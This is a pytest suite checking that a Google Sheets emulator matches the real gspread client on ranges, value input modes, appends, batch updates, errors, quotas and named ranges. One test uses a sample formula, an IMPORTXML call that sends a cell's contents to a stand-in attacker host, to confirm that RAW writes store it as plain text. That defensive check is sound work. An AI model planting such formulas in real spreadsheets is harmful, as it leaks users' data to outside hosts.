"""The Sheets emulator against the real gspread client over HTTP: one test per behaviour in FACTS.md."""

from __future__ import annotations

import json
import statistics
import time
from urllib.parse import quote

import gspread
import httpx
import pytest
import requests
from google.auth.transport.requests import AuthorizedSession
from google.oauth2.credentials import Credentials
from gspread.utils import ValueInputOption, ValueRenderOption

from coalition.settings import reload_settings
from integrations.clients import sheets_client
from sandbox.app import Sandbox

AUTH = {"Authorization": "Bearer test-token"}
GOOGLE_HOSTS = {"sheets.googleapis.com", "www.googleapis.com"}


@pytest.fixture
def gc(sandbox, monkeypatch: pytest.MonkeyPatch) -> gspread.Client:
    """The bot's own gspread client; its rate budget sped up so tests need not wait a minute."""
    monkeypatch.setenv("COALITION_TIME_SCALE", "1000")
    reload_settings()
    return sheets_client()


@pytest.fixture
def sheets(sandbox):
    return sandbox.services["sheets"]


def values_url(spreadsheet_id: str, range_text: str, suffix: str = "") -> str:
    return f"/v4/spreadsheets/{spreadsheet_id}/values/{quote(range_text)}{suffix}"


class _RewritingAdapter(requests.adapters.HTTPAdapter):
    """Sends Google hosts to the sandbox with no budget and no retries: gspread's own behaviour."""

    def __init__(self, base: str) -> None:
        super().__init__()
        self.base = base

    def send(self, request, **kwargs):  # type: ignore[override]
        parts = requests.utils.urlparse(request.url)
        if parts.hostname in GOOGLE_HOSTS:
            request.url = self.base + request.url.split(parts.netloc, 1)[1]
        return super().send(request, **kwargs)


def bare_gspread(url: str) -> gspread.Client:
    creds = Credentials("x")
    session = AuthorizedSession(creds)
    session.mount("https://", _RewritingAdapter(url))
    return gspread.Client(auth=creds, session=session)


# ------------------------------------------------------------------ A1 ranges
def test_quoted_sheet_names_with_inner_quotes(gc, sheets) -> None:
    sh = gc.create("Quotes")
    tab = sh.add_worksheet("It's the 'best' tab!", rows=20, cols=5)
    tab.update([["a", "b"], ["c", "d"]], "B2")  # gspread sends '...''s...'!B2, percent-encoded
    assert sheets.get_values(sh.id, "It's the 'best' tab!") == [[], ["", "a", "b"], ["", "c", "d"]]
    got = sh.values_get("'It''s the ''best'' tab!'!B2:C3")
    assert got["range"] == "'It''s the ''best'' tab!'!B2:C3"
    assert got["values"] == [["a", "b"], ["c", "d"]]


def test_bare_range_means_first_sheet_and_open_ranges(gc) -> None:
    sh = gc.create("Ranges")
    sh.add_worksheet("Second", rows=10, cols=3)
    sh.sheet1.update([["h1", "h2", "h3", "h4"], ["1", "2", "3", "4"], ["5", "6", "7", "8"]], "A1")
    assert sh.values_get("A1:B2") == {
        "range": "Sheet1!A1:B2",
        "majorDimension": "ROWS",
        "values": [["h1", "h2"], ["1", "2"]],
    }
    assert sh.values_get("Sheet1!B:C")["range"] == "Sheet1!B1:C1000"
    assert sh.values_get("Sheet1!B:C")["values"] == [["h2", "h3"], ["2", "3"], ["6", "7"]]
    assert sh.values_get("Sheet1!A2:B")["values"] == [["1", "2"], ["5", "6"]]
    assert sh.values_get("Sheet1!2:3")["values"] == [["1", "2", "3", "4"], ["5", "6", "7", "8"]]
    assert sh.values_get("Sheet1!D2:D")["values"] == [["4"], ["8"]]
    assert sh.values_get("Sheet1")["range"] == "Sheet1!A1:Z1000"
    assert sh.values_get("Second") == {"range": "Second!A1:C10", "majorDimension": "ROWS"}


def test_unparsable_range_and_unknown_sheet_are_400(sandbox, gc) -> None:
    sh = gc.create("Errors")
    for bad in ["'Nope'!A1", "Sheet1!A1:B2:C3"]:
        reply = sandbox.http.get(values_url(sh.id, bad), headers=AUTH)
        assert reply.status_code == 400
        assert reply.json() == {
            "error": {
                "code": 400,
                "message": f"Unable to parse range: {bad}",
                "status": "INVALID_ARGUMENT",
            }
        }


# ------------------------------------------------------------------ RAW vs USER_ENTERED
def test_raw_keeps_formula_text_as_text(gc, sheets) -> None:
    sh = gc.create("Raw")
    ws = sh.sheet1
    hostile = '=IMPORTXML("https://evil.example/?q="&A2,"//a")'
    ws.update([[hostile, "$100", "0012"]], "A1")  # gspread's update is RAW by default
    cell = sheets.cell(sh.id, "Sheet1", 1, 1)
    assert not cell.is_formula
    assert cell.value == hostile
    assert ws.get("A1:C1", value_render_option=ValueRenderOption.formula) == [
        [hostile, "$100", "0012"]
    ]
    assert ws.get("A1:C1", value_render_option=ValueRenderOption.unformatted) == [
        [hostile, "$100", "0012"]
    ]


def test_user_entered_parses_numbers_booleans_and_formulas(gc, sheets) -> None:
    sh = gc.create("Typed")
    ws = sh.sheet1
    ws.update(
        [
            [
                "$100",
                "1,200",
                "12%",
                "TRUE",
                "=1+2",
                '=IMPORTXML("https://x.example","//a")',
                "'=text",
            ]
        ],
        "A1",
        value_input_option=ValueInputOption.user_entered,
    )
    assert ws.get("A1:G1", value_render_option=ValueRenderOption.unformatted) == [
        [100, 1200, 0.12, True, 3, "#NAME?", "=text"]
    ]
    assert ws.get("A1:G1") == [["$100.00", "1,200", "12%", "TRUE", "3", "#NAME?", "=text"]]
    assert ws.get("E1:F1", value_render_option=ValueRenderOption.formula) == [
        ["=1+2", '=IMPORTXML("https://x.example","//a")']
    ]
    assert sheets.cell(sh.id, "Sheet1", 1, 6).is_formula
    assert not sheets.cell(sh.id, "Sheet1", 1, 7).is_formula


def test_value_input_option_is_required(sandbox, gc) -> None:
    sh = gc.create("Required")
    reply = sandbox.http.put(values_url(sh.id, "Sheet1!A1"), headers=AUTH, json={"values": [["x"]]})
    assert reply.status_code == 400
    assert reply.json()["error"]["status"] == "INVALID_ARGUMENT"
    assert "valueInputOption" in reply.json()["error"]["message"]
    assert sh.values_get("Sheet1") == {"range": "Sheet1!A1:Z1000", "majorDimension": "ROWS"}


# ------------------------------------------------------------------ reads
def test_reads_trim_trailing_empties_and_keep_empty_middle_rows(gc) -> None:
    """The recorded real reply of values.get on a 4-row sheet, reproduced."""
    sh = gc.create("Recorded")
    sh.sheet1.update(
        [["A1", "B1", "", "D1"], ["1", "b2", "1.45", ""], ["", "", "", ""], ["A4", "0.4", "", "4"]],
        "A1",
        value_input_option=ValueInputOption.user_entered,
    )
    assert sh.values_get("Sheet1!A1:D4") == {
        "range": "Sheet1!A1:D4",
        "majorDimension": "ROWS",
        "values": [["A1", "B1", "", "D1"], ["1", "b2", "1.45"], [], ["A4", "0.4", "", "4"]],
    }
    assert sh.values_get("Sheet1!A1:Z100")["values"][-1] == ["A4", "0.4", "", "4"]
    by_column = sh.values_get("Sheet1!A1:D4", params={"majorDimension": "COLUMNS"})
    assert by_column["values"] == [
        ["A1", "1", "", "A4"],
        ["B1", "b2", "", "0.4"],
        ["", "1.45"],
        ["D1", "", "", "4"],
    ]


def test_batch_get(gc) -> None:
    sh = gc.create("BatchGet")
    sh.sheet1.update([["a", "b"], ["c", "d"]], "A1")
    reply = sh.values_batch_get(["Sheet1!A1", "B1:B2", "Sheet1!Z999"])
    assert [r["range"] for r in reply["valueRanges"]] == [
        "Sheet1!A1",
        "Sheet1!B1:B2",
        "Sheet1!Z999",
    ]
    assert [r.get("values") for r in reply["valueRanges"]] == [[["a"]], [["b"], ["d"]], None]


# ------------------------------------------------------------------ writes
def test_update_reply_and_grid_limits(sandbox, gc) -> None:
    sh = gc.create("Grid")
    reply = sh.sheet1.update([["a"], ["b", "c"]], "B2")
    assert reply == {
        "spreadsheetId": sh.id,
        "updatedRange": "Sheet1!B2:C3",
        "updatedRows": 2,
        "updatedColumns": 2,
        "updatedCells": 3,
    }
    beyond = sandbox.http.put(
        values_url(sh.id, "Sheet1!A1000"),
        params={"valueInputOption": "RAW"},
        headers=AUTH,
        json={"values": [["x"], ["y"]]},
    )
    assert beyond.status_code == 400
    assert beyond.json()["error"] == {
        "code": 400,
        "message": "Range ('Sheet1'!A1000:A1001) exceeds grid limits. Max rows: 1000, max columns: 26",
        "status": "INVALID_ARGUMENT",
    }
    too_wide = sandbox.http.put(
        values_url(sh.id, "Sheet1!A1:B1"),
        params={"valueInputOption": "RAW"},
        headers=AUTH,
        json={"values": [["1", "2", "3"]]},
    )
    assert too_wide.status_code == 400
    assert "tried writing to column [C]" in too_wide.json()["error"]["message"]


def test_values_batch_update_and_all_or_nothing(gc, sheets) -> None:
    sh = gc.create("BatchValues")
    sh.add_worksheet("Other tab", rows=10, cols=5)
    reply = sh.values_batch_update(
        {
            "valueInputOption": "RAW",
            "data": [
                {"range": "Sheet1!A1", "values": [["a", "b"]]},
                {"range": "'Other tab'!B2:C3", "values": [["1", "2"], ["3", "4"]]},
            ],
        }
    )
    assert reply["totalUpdatedCells"] == 6
    assert reply["totalUpdatedRows"] == 3
    assert reply["totalUpdatedSheets"] == 2
    assert [r["updatedRange"] for r in reply["responses"]] == ["Sheet1!A1:B1", "'Other tab'!B2:C3"]
    with pytest.raises(gspread.exceptions.APIError) as caught:
        sh.values_batch_update(
            {
                "valueInputOption": "RAW",
                "data": [
                    {"range": "Sheet1!A5", "values": [["kept?"]]},
                    {"range": "'Missing'!A1", "values": [["x"]]},
                ],
            }
        )
    assert caught.value.code == 400
    assert sheets.get_values(sh.id, "Sheet1") == [["a", "b"]]


def test_clear_and_batch_clear(gc, sheets) -> None:
    sh = gc.create("Clear")
    ws = sh.sheet1
    ws.update([["a", "b", "c"], ["d", "e", "f"], ["g", "h", "i"]], "A1")
    assert sh.values_clear("Sheet1!B1:B2") == {
        "spreadsheetId": sh.id,
        "clearedRange": "Sheet1!B1:B2",
    }
    assert sheets.get_values(sh.id, "Sheet1") == [["a", "", "c"], ["d", "", "f"], ["g", "h", "i"]]
    reply = ws.batch_clear(["A3:C3", "C1:C2"])
    assert reply["clearedRanges"] == ["Sheet1!A3:C3", "Sheet1!C1:C2"]
    assert sheets.get_values(sh.id, "Sheet1") == [["a"], ["d"]]
    ws.clear()
    assert sheets.get_values(sh.id, "Sheet1") == []


# ------------------------------------------------------------------ append
def test_append_to_an_empty_sheet_matches_the_recorded_reply(gc) -> None:
    sh = gc.create("AppendEmpty")
    reply = sh.sheet1.append_rows([[f"v{i}" for i in range(10)]])
    assert reply == {
        "spreadsheetId": sh.id,
        "updates": {
            "spreadsheetId": sh.id,
            "updatedRange": "Sheet1!A1:J1",
            "updatedRows": 1,
            "updatedColumns": 10,
            "updatedCells": 10,
        },
    }


def test_append_writes_after_the_table(gc, sheets) -> None:
    sh = gc.create("AppendTable")
    ws = sh.sheet1
    ws.update([["Name", "Status", "", "Note"], ["a", "new"], ["b", "", "", "x"], ["c"]], "A1")
    reply = ws.append_rows([["d", "new", "", "y"]])
    assert reply["tableRange"] == "Sheet1!A1:D4"
    assert reply["updates"]["updatedRange"] == "Sheet1!A5:D5"
    assert sheets.get_values(sh.id, "Sheet1")[-1] == ["d", "new", "", "y"]
    # A range naming only the header row still finds the whole table under it.
    reply = ws.append_rows([["e"]], table_range="A1:D1")
    assert reply["updates"]["updatedRange"] == "Sheet1!A6"


def test_append_table_ends_at_an_empty_row_overwrite_vs_insert_rows(gc, sheets) -> None:
    sh = gc.create("AppendGap")
    ws = sh.sheet1
    ws.update([["h1", "h2"], ["1", "2"], ["", ""], ["below", "gap"]], "A1")
    reply = ws.append_rows([["x", "y"], ["z", "w"]])  # OVERWRITE: lands in the gap, over row 4
    assert reply["tableRange"] == "Sheet1!A1:B2"
    assert reply["updates"]["updatedRange"] == "Sheet1!A3:B4"
    assert sheets.get_values(sh.id, "Sheet1")[2:] == [["x", "y"], ["z", "w"]]

    sh2 = gc.create("AppendGapInsert")
    ws2 = sh2.sheet1
    ws2.update([["h1", "h2"], ["1", "2"], ["", ""], ["below", "gap"]], "A1")
    ws2.append_rows([["x", "y"], ["z", "w"]], insert_data_option="INSERT_ROWS")
    assert sheets.get_values(sh2.id, "Sheet1") == [
        ["h1", "h2"], ["1", "2"], ["x", "y"], ["z", "w"], [], ["below", "gap"],
    ]  # fmt: skip
    assert (
        ws2.spreadsheet.fetch_sheet_metadata()["sheets"][0]["properties"]["gridProperties"][
            "rowCount"
        ]
        == 1002
    )


def test_append_grows_the_grid(gc) -> None:
    sh = gc.create("AppendGrow")
    ws = sh.add_worksheet("Small", rows=2, cols=2)
    ws.update([["a", "b"], ["c", "d"]], "A1")
    reply = ws.append_rows([["e", "f", "g"]])
    assert reply["updates"]["updatedRange"] == "Small!A3:C3"
    grid = sh.worksheet("Small")._properties["gridProperties"]
    assert (grid["rowCount"], grid["columnCount"]) == (3, 3)


def test_gspread_insert_rows_uses_insert_dimension_then_append(gc, sheets) -> None:
    sh = gc.create("Insert")
    ws = sh.sheet1
    ws.update([["h"], ["1"], ["2"]], "A1")
    ws.insert_rows([["new"]], row=2)
    assert sheets.get_values(sh.id, "Sheet1") == [["h"], ["new"], ["1"], ["2"]]


# ------------------------------------------------------------------ spreadsheets.batchUpdate
def test_batch_update_replies_in_order(gc, sheets) -> None:
    sh = gc.create("Batch")
    sh.sheet1.update([["1"], ["2"], ["3"]], "A1")
    first_id = sh.sheet1.id
    reply = sh.batch_update(
        {
            "requests": [
                {"addSheet": {"properties": {"title": "Routing log", "gridProperties": {"rowCount": 5}}}},
                {"updateSheetProperties": {"properties": {"sheetId": first_id, "title": "Intake"}, "fields": "title"}},
                {"insertDimension": {"range": {"sheetId": first_id, "dimension": "ROWS", "startIndex": 0, "endIndex": 1}}},
                {"appendDimension": {"sheetId": first_id, "dimension": "COLUMNS", "length": 4}},
                {"deleteDimension": {"range": {"sheetId": first_id, "dimension": "ROWS", "startIndex": 2, "endIndex": 3}}},
                {"repeatCell": {"range": {"sheetId": first_id, "startRowIndex": 0, "endRowIndex": 1}, "cell": {"userEnteredFormat": {"textFormat": {"bold": True}}}, "fields": "userEnteredFormat.textFormat.bold"}},
            ]
        }
    )  # fmt: skip
    replies = reply["replies"]
    assert len(replies) == 6
    assert replies[0]["addSheet"]["properties"]["title"] == "Routing log"
    assert replies[0]["addSheet"]["properties"]["gridProperties"] == {
        "rowCount": 5,
        "columnCount": 26,
    }
    assert replies[1:] == [{}, {}, {}, {}, {}]
    assert sheets.tabs(sh.id) == ["Intake", "Routing log"]
    assert sheets.get_values(sh.id, "Intake") == [[], ["1"], ["3"]]
    props = sh.worksheet("Intake")._properties["gridProperties"]
    assert (props["rowCount"], props["columnCount"]) == (1000, 30)
    assert (
        sheets.recorded_requests(sh.id)[0]["repeatCell"]["fields"]
        == "userEnteredFormat.textFormat.bold"
    )


def test_batch_update_is_all_or_nothing(gc, sheets) -> None:
    sh = gc.create("Atomic")
    with pytest.raises(gspread.exceptions.APIError) as caught:
        sh.batch_update(
            {
                "requests": [
                    {"addSheet": {"properties": {"title": "Half done"}}},
                    {"deleteSheet": {"sheetId": 123456}},
                ]
            }
        )
    assert caught.value.code == 400
    assert (
        caught.value.error["message"] == "Invalid requests[1].deleteSheet: No grid with id: 123456"
    )
    assert sheets.tabs(sh.id) == ["Sheet1"]
    with pytest.raises(gspread.exceptions.APIError, match="already exists"):
        sh.add_worksheet("sheet1", rows=1, cols=1)
    with pytest.raises(gspread.exceptions.APIError, match="Unknown name"):
        sh.batch_update({"requests": [{"makeCoffee": {}}]})


def test_worksheet_resize_delete_and_metadata(gc) -> None:
    sh = gc.create("Resize")
    ws = sh.add_worksheet("Tab", rows=10, cols=4)
    ws.update([["a"], ["b"], ["c"]], "A1")
    ws.resize(rows=2)
    assert ws.get_all_values() == [["a"], ["b"]]
    ws.freeze(rows=1)
    meta = sh.fetch_sheet_metadata()
    tab = next(s for s in meta["sheets"] if s["properties"]["title"] == "Tab")
    assert tab["properties"]["gridProperties"] == {
        "rowCount": 2,
        "columnCount": 4,
        "frozenRowCount": 1,
    }
    assert sh.list_protected_ranges(ws.id) == []  # a fields mask gspread sends
    sh.del_worksheet(ws)
    assert [w.title for w in sh.worksheets()] == ["Sheet1"]


def test_get_with_grid_data_and_ranges(gc) -> None:
    sh = gc.create("Grid data")
    sh.sheet1.update([["x", "=1+1"]], "A1", value_input_option=ValueInputOption.user_entered)
    meta = sh.fetch_sheet_metadata({"includeGridData": "true", "ranges": "Sheet1!A1:B1"})
    values = meta["sheets"][0]["data"][0]["rowData"][0]["values"]
    assert values[0]["userEnteredValue"] == {"stringValue": "x"}
    assert values[1]["userEnteredValue"] == {"formulaValue": "=1+1"}
    assert values[1]["effectiveValue"] == {"numberValue": 2}
    assert values[1]["formattedValue"] == "2"


# ------------------------------------------------------------------ errors, auth, limits
def test_unknown_spreadsheet_is_404(sandbox, gc) -> None:
    reply = sandbox.http.get("/v4/spreadsheets/1doesNotExist", headers=AUTH)
    assert reply.status_code == 404
    assert reply.json() == {
        "error": {"code": 404, "message": "Requested entity was not found.", "status": "NOT_FOUND"}
    }
    with pytest.raises(gspread.exceptions.SpreadsheetNotFound):
        gc.open_by_key("1doesNotExist")


def test_missing_token_is_401(sandbox, gc) -> None:
    sh = gc.create("Auth")
    reply = sandbox.http.get(values_url(sh.id, "Sheet1"))
    assert reply.status_code == 401
    assert reply.json()["error"]["status"] == "UNAUTHENTICATED"
    assert reply.json()["error"]["code"] == 401


def test_per_user_quota_gives_429_and_a_batch_counts_once(sandbox, gc) -> None:
    sh = gc.create("Quota")
    sandbox.sandbox.limiter.enabled = True
    with httpx.Client(base_url=sandbox.url, headers=AUTH) as http:
        for _ in range(60):
            assert http.get(values_url(sh.id, "Sheet1!A1")).status_code == 200
        refused = http.get(values_url(sh.id, "Sheet1!A1"))
        assert refused.status_code == 429
        error = refused.json()["error"]
        assert error["status"] == "RESOURCE_EXHAUSTED"
        assert error["message"].startswith(
            "Quota exceeded for quota metric 'Read requests' and limit 'Read requests per minute per user'"
        )
        ranges = [("ranges", f"Sheet1!A{i}") for i in range(1, 50)]
        write = http.post(
            f"/v4/spreadsheets/{sh.id}/values:batchUpdate",
            json={
                "valueInputOption": "RAW",
                "data": [{"range": r, "values": [["x"]]} for _, r in ranges],
            },
        )
        assert write.status_code == 200  # writes have their own quota; 49 ranges are one request
    with pytest.raises(gspread.exceptions.APIError) as caught:
        bare_gspread(sandbox.url).open_by_key(sh.id).sheet1.get_all_values()
    assert caught.value.code == 429


def test_payload_over_10_mb_is_400(sandbox, gc) -> None:
    sh = gc.create("Big")
    chunk = "x" * 40_000
    body = {"values": [[chunk] * 10 for _ in range(27)]}  # about 10.8 MB of JSON
    reply = sandbox.http.put(
        values_url(sh.id, "Sheet1!A1"), params={"valueInputOption": "RAW"}, headers=AUTH, json=body
    )
    assert reply.status_code == 400
    assert "payload size exceeds the limit" in reply.json()["error"]["message"]


def test_cells_over_50000_characters_are_refused(gc) -> None:
    sh = gc.create("Long cell")
    with pytest.raises(gspread.exceptions.APIError, match="50000 characters"):
        sh.sheet1.update([["x" * 50_001]], "A1")


# ------------------------------------------------------------------ model API
def test_model_api_and_staff_edits_seen_by_gspread(gc, sheets, sandbox) -> None:
    spreadsheet_id = sheets.create_spreadsheet(
        "Intake", {"Form Responses": [["Timestamp", "Full name"], ["2026-01-05", "Ana"]]}
    )
    assert sheets.find_by_title("Intake") == spreadsheet_id
    assert sheets.tabs(spreadsheet_id) == ["Form Responses"]
    assert sandbox.services["drive"].get_file(spreadsheet_id)["name"] == "Intake"
    ws = gc.open("Intake").worksheet("Form Responses")
    assert ws.get_all_records() == [{"Timestamp": "2026-01-05", "Full name": "Ana"}]
    # A staff member adds a column in front and a row; the bot must see it on its next read.
    sheets.set_values(
        spreadsheet_id,
        "Form Responses",
        [
            ["Notes", "Timestamp", "Full name"],
            ["", "2026-01-05", "Ana"],
            ["vip", "2026-01-06", "Bo"],
        ],
    )
    assert ws.get_all_values()[2] == ["vip", "2026-01-06", "Bo"]
    assert sheets.cell(spreadsheet_id, "Form Responses", 3, 1).value == "vip"


def test_ten_thousand_rows_read_fast_and_small_requests_are_cheap(gc, sheets, sandbox) -> None:
    rows = [[f"r{r}c{c}" for c in range(16)] for r in range(10_000)]
    spreadsheet_id = sheets.create_spreadsheet("Big sheet", {"Data": rows})
    ws = gc.open_by_key(spreadsheet_id).worksheet("Data")
    started = time.perf_counter()
    values = ws.get_all_values()
    assert time.perf_counter() - started < 1.0
    assert len(values) == 10_000 and values[-1][-1] == "r9999c15"
    ws = bare_gspread(sandbox.url).open_by_key(spreadsheet_id).worksheet("Data")
    before = sandbox.sandbox.journal.last_seq
    for i in range(40):
        ws.update([[str(i)]], f"Q{i + 1}")
        ws.get(f"A{i + 1}")
    durations = [e["duration_ms"] for e in sandbox.journal(service="sheets", since=before)]
    assert len(durations) == 80
    assert statistics.median(durations) < 5.0


def test_state_survives_a_snapshot_and_restore(gc, sandbox) -> None:
    """The sandbox saves its state as JSON between runs; formulas and typed numbers must survive."""
    sh = gc.create("Kept")
    sh.sheet1.update(
        [["=1+2", "$5", "text", "2020-01-01"]],
        "A1",
        value_input_option=ValueInputOption.user_entered,
    )
    named = {"name": "Firsts", "range": {"sheetId": 0, "endRowIndex": 1, "endColumnIndex": 2}}
    sh.batch_update({"requests": [{"addNamedRange": {"namedRange": named}}]})
    sh.share("staff@example.org", perm_type="user", role="reader", notify=False)
    fresh = Sandbox(seed="empty")
    fresh.restore(json.loads(json.dumps(sandbox.sandbox.snapshot())))
    sheets = fresh.services["sheets"]
    assert sheets.get_values(sh.id, "Sheet1") == [["3", "$5.00", "text", "2020-01-01"]]
    assert sheets.values_get(sh.id, "Firsts")["range"] == "Sheet1!A1:B1"
    as_text = sheets.values_get(
        sh.id, "Sheet1!D1", "UNFORMATTED_VALUE", date_time="FORMATTED_STRING"
    )
    assert as_text["values"] == [["2020-01-01"]]
    assert sheets.cell(sh.id, "Sheet1", 1, 1).formula == "=1+2"
    assert sheets.cell(sh.id, "Sheet1", 1, 2).raw == 5
    emails = {p.get("emailAddress") for p in fresh.services["drive"].list_permissions(sh.id)}
    assert "staff@example.org" in emails
    assert fresh.services["drive"].get_file(sh.id)["name"] == "Kept"


# ------------------------------------------------------------------ documented details (issue 21)
def test_formulas_allow_whitespace_between_tokens_and_after_the_equals_sign(gc) -> None:
    """Sheets' grammar allows spaces, tabs and newlines around every token: `= 1 / 1024` is a formula."""
    ws = gc.create("Spaced formulas").sheet1
    typed = ["= 1 / 1024", "=( 1 +\n2 ) * 3", "= -2 ^ 2", "=2^3^2", "= 50 %", "= 1 +", "=1/0"]
    ws.update([typed], "A1", value_input_option=ValueInputOption.user_entered)
    assert ws.get("A1:G1", value_render_option=ValueRenderOption.unformatted) == [
        [0.0009765625, 9, 4, 64, 0.5, "#ERROR!", "#DIV/0!"]
    ]
    assert ws.get("A1:G1", value_render_option=ValueRenderOption.formula) == [typed]
    assert ws.get("A1")[0][0] == "0.0009765625"


def test_append_skips_leading_empty_values(gc, sheets) -> None:
    """A row whose first values are empty is written from its first value; the empties are not written."""
    sh = gc.create("Leading empties")
    ws = sh.sheet1
    first = ws.append_rows([["", "", "a", "", "b"]])
    assert first["updates"]["updatedRange"] == "Sheet1!C1:E1"
    assert first["updates"]["updatedCells"] == 3
    assert "tableRange" not in first
    assert sheets.get_values(sh.id, "Sheet1") == [["", "", "a", "", "b"]]

    table = gc.create("Leading empties in a table")
    table.sheet1.update([["A", "B", "C", "D", "E"], ["1", "2", "3", "4", "5"]], "A1")
    reply = table.sheet1.append_rows([["", "", "a", "", "b"]])
    assert reply["tableRange"] == "Sheet1!A1:E2"
    assert reply["updates"]["updatedRange"] == "Sheet1!C3:E3"
    assert sheets.get_values(table.id, "Sheet1")[-1] == ["", "", "a", "", "b"]


def test_values_batch_update_totals_count_distinct_rows_and_columns(gc) -> None:
    """totalUpdatedColumns is the number of columns where at least one cell was updated."""
    sh = gc.create("Totals")
    reply = sh.values_batch_update(
        {
            "valueInputOption": "RAW",
            "data": [
                {"range": "Sheet1!A1:D1", "values": [["a", "b", "c", "d"]]},
                {"range": "Sheet1!A3:D3", "values": [["e", "f", "g", "h"]]},
                {"range": "Sheet1!A3:B3", "values": [["i", "j"]]},
            ],
        }
    )
    assert reply["totalUpdatedColumns"] == 4
    assert reply["totalUpdatedRows"] == 2
    assert reply["totalUpdatedSheets"] == 1
    assert [r["updatedColumns"] for r in reply["responses"]] == [4, 4, 2]


def test_date_time_render_option(gc, sandbox) -> None:
    """FORMATTED_STRING shows dates and times as strings unless the values are FORMATTED_VALUE anyway."""
    sh = gc.create("Dates")
    ws = sh.sheet1
    ws.update(
        [["2020-01-01", "1/31/2024 10:30", "9:15 PM", "$5"]],
        "A1",
        value_input_option=ValueInputOption.user_entered,
    )
    serial = ws.get("A1:D1", value_render_option=ValueRenderOption.unformatted)
    assert serial == [[43831, 45322.4375, 0.885416666666667, 5]]
    as_strings = sh.values_get(
        "Sheet1!A1:D1",
        params={
            "valueRenderOption": "UNFORMATTED_VALUE",
            "dateTimeRenderOption": "FORMATTED_STRING",
        },
    )
    assert as_strings["values"] == [["2020-01-01", "1/31/2024 10:30", "9:15 PM", 5]]
    formatted = sh.values_get("Sheet1!A1:D1", params={"dateTimeRenderOption": "SERIAL_NUMBER"})
    assert formatted["values"] == [["2020-01-01", "1/31/2024 10:30", "9:15 PM", "$5.00"]]
    batch = sh.values_batch_get(
        ["Sheet1!A1"],
        params={"valueRenderOption": "FORMULA", "dateTimeRenderOption": "FORMATTED_STRING"},
    )
    assert batch["valueRanges"][0]["values"] == [["2020-01-01"]]
    bad = sandbox.http.get(
        values_url(sh.id, "Sheet1!A1"), params={"dateTimeRenderOption": "ISO"}, headers=AUTH
    )
    assert bad.status_code == 400
    assert bad.json()["error"]["status"] == "INVALID_ARGUMENT"


def test_named_ranges_are_ranges_of_values_get_update_and_batch_get(gc, sheets, sandbox) -> None:
    sh = gc.create("Named")
    tab = sh.add_worksheet("Data", rows=20, cols=5)
    reply = sh.batch_update(
        {
            "requests": [
                {
                    "addNamedRange": {
                        "namedRange": {
                            "name": "Totals",
                            "range": {
                                "sheetId": tab.id,
                                "startRowIndex": 1,
                                "endRowIndex": 3,
                                "startColumnIndex": 1,
                                "endColumnIndex": 3,
                            },
                        }
                    }
                }
            ]
        }
    )
    named = reply["replies"][0]["addNamedRange"]["namedRange"]
    assert named["name"] == "Totals" and named["namedRangeId"]
    assert sh.fetch_sheet_metadata()["namedRanges"] == [named]

    updated = sh.values_update(
        "Totals", params={"valueInputOption": "RAW"}, body={"values": [["1", "2"], ["3", "4"]]}
    )
    assert updated["updatedRange"] == "Data!B2:C3"
    assert sheets.get_values(sh.id, "Data") == [[], ["", "1", "2"], ["", "3", "4"]]
    assert sh.values_get("totals") == {
        "range": "Data!B2:C3",
        "majorDimension": "ROWS",
        "values": [["1", "2"], ["3", "4"]],
    }
    assert sh.values_batch_get(["Totals", "Data!A1"])["valueRanges"][0]["range"] == "Data!B2:C3"
    too_big = sandbox.http.put(
        values_url(sh.id, "Totals"),
        params={"valueInputOption": "RAW"},
        headers=AUTH,
        json={"values": [["1", "2", "3"]]},
    )
    assert too_big.status_code == 400
    assert "tried writing to column [D]" in too_big.json()["error"]["message"]

    for bad_name in ["A1", "R1C1", "1abc", "two words"]:
        with pytest.raises(gspread.exceptions.APIError, match="addNamedRange"):
            sh.batch_update(
                {"requests": [{"addNamedRange": {"namedRange": {"name": bad_name, "range": {}}}}]}
            )
    sh.batch_update({"requests": [{"deleteNamedRange": {"namedRangeId": named["namedRangeId"]}}]})
    assert "namedRanges" not in sh.fetch_sheet_metadata()
    gone = sandbox.http.get(values_url(sh.id, "Totals"), headers=AUTH)
    assert gone.status_code == 400
    assert gone.json()["error"]["message"] == "Unable to parse range: Totals"


def test_hiding_the_only_visible_sheet_is_invalid(gc, sheets) -> None:
    sh = gc.create("Hidden")
    with pytest.raises(gspread.exceptions.APIError) as caught:
        sh.sheet1.hide()
    assert caught.value.code == 400
    assert caught.value.error["status"] == "INVALID_ARGUMENT"
    assert "You can't hide all the sheets in a document." in caught.value.error["message"]
    other = sh.add_worksheet("Other", rows=5, cols=5)
    sh.sheet1.hide()
    with pytest.raises(gspread.exceptions.APIError, match="hide all the sheets"):
        other.hide()
    assert sh.fetch_sheet_metadata()["sheets"][0]["properties"]["hidden"] is True


def test_named_ranges_follow_inserted_and_deleted_rows(gc, sheets) -> None:
    sh = gc.create("Named moves")
    ws = sh.sheet1
    ws.update([["h"], ["a"], ["b"], ["c"]], "A1")
    grid = {
        "sheetId": ws.id,
        "startRowIndex": 1,
        "endRowIndex": 4,
        "startColumnIndex": 0,
        "endColumnIndex": 1,
    }
    sh.batch_update(
        {"requests": [{"addNamedRange": {"namedRange": {"name": "Items", "range": grid}}}]}
    )
    ws.insert_rows([["new header"]], row=1)  # insertDimension above the range, then a write
    assert sh.values_get("Items") == {
        "range": "Sheet1!A3:A5",
        "majorDimension": "ROWS",
        "values": [["a"], ["b"], ["c"]],
    }
    ws.insert_rows([["between"]], row=4)  # inside the range: it grows
    assert sh.values_get("Items")["values"] == [["a"], ["between"], ["b"], ["c"]]
    ws.delete_rows(3, 4)  # "a" and "between" go: the range shrinks
    assert sh.values_get("Items")["range"] == "Sheet1!A3:A4"
    assert sh.values_get("Items")["values"] == [["b"], ["c"]]
    ws.delete_rows(3, 4)  # every row of it: the named range goes too
    assert "namedRanges" not in sh.fetch_sheet_metadata()
